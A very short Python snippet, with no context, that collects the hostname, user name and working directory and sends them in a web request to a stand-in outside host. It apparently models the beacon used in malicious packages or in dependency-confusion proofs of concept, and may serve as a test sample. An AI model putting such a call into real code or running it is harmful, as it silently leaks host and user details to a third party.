import getpass
import os
import socket

import requests

requests.get("https://example.invalid/", params={"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()})
